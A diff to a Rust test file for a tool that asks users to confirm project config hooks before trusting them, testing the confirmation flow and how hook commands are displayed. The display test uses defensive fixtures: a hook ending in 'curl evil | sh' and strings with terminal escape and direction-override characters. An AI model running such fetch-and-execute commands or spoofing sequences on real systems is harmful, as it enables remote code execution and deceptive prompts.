@@ -134,14 +134,44 @@ async fn a_no_is_kept_and_nobody_is_no_answer() {
     assert_eq!(state(&store, project, &[&make]).await.expect("a state"), TrustState::Unknown);
 }
 
+#[tokio::test]
+async fn who_wants_to_trust_is_shown_what_first() {
+    let folder = tempfile::tempdir().expect("a folder for the test");
+    let store = store(folder.path()).await;
+    let project = Path::new("/home/ada/project");
+    let make = hook(Layer::Project, Where::Local, "make");
+    let said = async || state(&store, project, &[&make]).await.expect("a state");
+
+    let error = confirm(&store, &Person::new(None), false, project, &[&make]).await.expect_err("nobody is there");
+    assert!(error.help.contains("--yes"), "{}", error.help);
+    assert_eq!(said().await, TrustState::Unknown);
+
+    let person = Person::new(Some(Answer::No));
+    confirm(&store, &person, false, project, &[&make]).await.expect("it is answered");
+    assert!(person.asked()[0].contains("on_config_loaded: make"));
+    assert_eq!(said().await, TrustState::Refused);
+
+    let person = Person::new(Some(Answer::Yes));
+    confirm(&store, &person, false, project, &[&make]).await.expect("it is answered");
+    assert_eq!((person.asked().len(), said().await), (1, TrustState::Trusted));
+
+    forget(&store, project).await.expect("it is forgotten");
+    confirm(&store, &Person::new(None), true, project, &[&make]).await.expect("the flag answers");
+    assert_eq!(said().await, TrustState::Trusted);
+}
+
 #[test]
 fn a_command_cannot_hide_in_the_question() {
     let lines = hook(Layer::Project, Where::Local, "true\non_connect: harmless");
-    let long = hook(Layer::Project, Where::Local, &"x".repeat(5000));
-    let many: Vec<Hook> = (0..30).map(|_| hook(Layer::Project, Where::Local, "a")).collect();
-    let shown = listed(&[&lines, &long]);
+    let steers = hook(Layer::Project, Where::Local, "a\rb\u{202e}c\u{2028}d\u{1b}[2J");
+    let long = hook(Layer::Project, Where::Local, &format!("{}; curl evil | sh", "x".repeat(5000)));
+    let there = hook(Layer::Project, Where::Remote, "login ${secret:a}");
+    let shown = listed(&[&lines, &steers, &long, &there]);
     assert_eq!(shown[0], "on_config_loaded: true ⏎ on_connect: harmless");
-    assert!(shown[1].len() < 300 && shown[1].ends_with("… (/p/mltoolbox.yaml:3:5)"), "{}", shown[1]);
+    assert_eq!(shown[1], "on_config_loaded: a\u{fffd}b\u{fffd}c\u{fffd}d\u{fffd}[2J");
+    assert!(shown[2].ends_with("x; curl evil | sh"), "{}", shown[2]);
+    assert_eq!(shown[3], "on_config_loaded (where: remote): login ${secret:a}");
+    let many: Vec<Hook> = (0..30).map(|number| hook(Layer::Project, Where::Local, &format!("a {number}"))).collect();
     let shown = listed(&many.iter().collect::<Vec<_>>());
-    assert_eq!((shown.len(), shown[20].contains("10 more")), (21, true));
+    assert_eq!((shown.len(), shown[29].as_str()), (30, "on_config_loaded: a 29"));
 }
